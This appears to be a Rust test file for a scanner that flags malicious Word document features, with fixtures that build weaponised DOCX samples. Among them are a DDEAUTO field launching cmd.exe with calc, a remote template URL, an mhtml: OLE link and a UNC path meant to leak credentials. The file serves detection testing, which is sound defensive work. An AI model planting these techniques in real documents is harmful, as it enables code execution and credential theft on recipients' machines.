//! Word documents: remote templates, external relationships, DDE fields,
//! macro projects, OLE objects and ActiveX controls.

use counterspy_model::{FindingKind, Severity};
use counterspy_testkit::ooxml::{COMMAND_BUTTON, DocxBuilder};

use crate::{findings, kinds, names, scan};

const DDE: &str =
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"";

#[test]
fn weaponised_docx_gives_exact_findings() {
    let docx = DocxBuilder::new()
        .text("Please enable editing to view the invoice")
        .attached_template("https://templates.example/q3.dotm")
        .dde_field(DDE, 7)
        .hyperlink("https://example.com/page")
        .vba_project(b"VBA project bytes")
        .ole_object(b"OLE object bytes")
        .activex(COMMAND_BUTTON)
        .build();
    let out = scan(&docx);
    assert_eq!(
        kinds(&out),
        [
            FindingKind::ExternalRelationship,
            FindingKind::Dde,
            FindingKind::ActiveX
        ]
    );
    let template = &out.findings[0];
    assert_eq!(template.severity, Severity::High);
    assert_eq!(
        template.evidence.excerpt.as_deref(),
        Some("attachedTemplate https://templates.example/q3.dotm")
    );
    assert!(template.message.contains("remote template injection"));
    let dde = &out.findings[1];
    assert_eq!(dde.evidence.excerpt.as_deref(), Some(DDE));
    assert!(dde.message.starts_with("DDEAUTO field in word/document.xml"));
    assert_eq!(
        out.findings[2].evidence.excerpt.as_deref(),
        Some(COMMAND_BUTTON)
    );
    assert!(out.findings[2].message.contains("Forms.CommandButton.1"));
    assert_eq!(
        names(&out),
        [
            "word/vbaProject.bin",
            "word/embeddings/oleObject1.bin",
            "word/activeX/activeX1.bin"
        ]
    );
    assert_eq!(out.children[0].data, b"VBA project bytes");
    assert_eq!(
        out.children[0].content_type.as_deref(),
        Some("application/vnd.ms-office.vbaProject")
    );
    assert_eq!(out.children[1].data, b"OLE object bytes");
    for needle in [
        "Please enable editing to view the invoice",
        "https://templates.example/q3.dotm",
        "https://example.com/page",
        "macro-enabled",
        DDE,
    ] {
        assert!(out.text.contains(needle), "{needle:?} not in {:?}", out.text);
    }
}

#[test]
fn clean_docx_has_no_findings() {
    let out = scan(&DocxBuilder::new().text("Minutes of the meeting").build());
    assert!(out.findings.is_empty(), "{:?}", out.findings);
    assert!(out.children.is_empty());
    assert!(out.text.contains("Minutes of the meeting"));
    assert!(!out.text.contains("macro-enabled"));
}

#[test]
fn hyperlinks_and_external_images_are_only_text() {
    let out = scan(
        &DocxBuilder::new()
            .hyperlink("https://example.com/a")
            .external("image", "http://tracker.example/p.png")
            .build(),
    );
    assert!(out.findings.is_empty(), "{:?}", out.findings);
    assert!(out.text.contains("http://tracker.example/p.png"));
}

#[test]
fn loading_and_credential_leaking_targets_are_findings() {
    let out = scan(
        &DocxBuilder::new()
            .external(
                "oleObject",
                "mhtml:http://x.example/a.html!x-usc:http://x.example/a.html",
            )
            .external("image", "\\\\198.51.100.7\\share\\pixel.png")
            .external("frame", "https://x.example/frame.html")
            .external("subDocument", "file:///C:/docs/part.docx")
            .build(),
    );
    let found = findings(&out, FindingKind::ExternalRelationship);
    let severities: Vec<Severity> = found.iter().map(|f| f.severity).collect();
    assert_eq!(
        severities,
        [Severity::High, Severity::High, Severity::High, Severity::Low]
    );
    assert!(found[0].message.contains("mhtml:"));
    assert!(found[1].message.contains("UNC"));
}

#[test]
fn dde_split_over_many_runs_is_one_instruction() {
    for runs in [1, 2, 13, 80] {
        let out = scan(
            &DocxBuilder::new().dde_field(" dde cmd /c calc", runs).build(),
        );
        let dde = findings(&out, FindingKind::Dde);
        assert_eq!(dde.len(), 1, "{runs} runs");
        assert_eq!(
            dde[0].evidence.excerpt.as_deref(),
            Some("dde cmd /c calc")
        );
    }
}

#[test]
fn other_fields_are_text_not_findings() {
    let out = scan(
        &DocxBuilder::new()
            .dde_field("INCLUDEPICTURE \"http://img.example/a.png\" \\d", 3)
            .build(),
    );
    assert!(out.findings.is_empty());
    assert!(out.text.contains("http://img.example/a.png"));
}
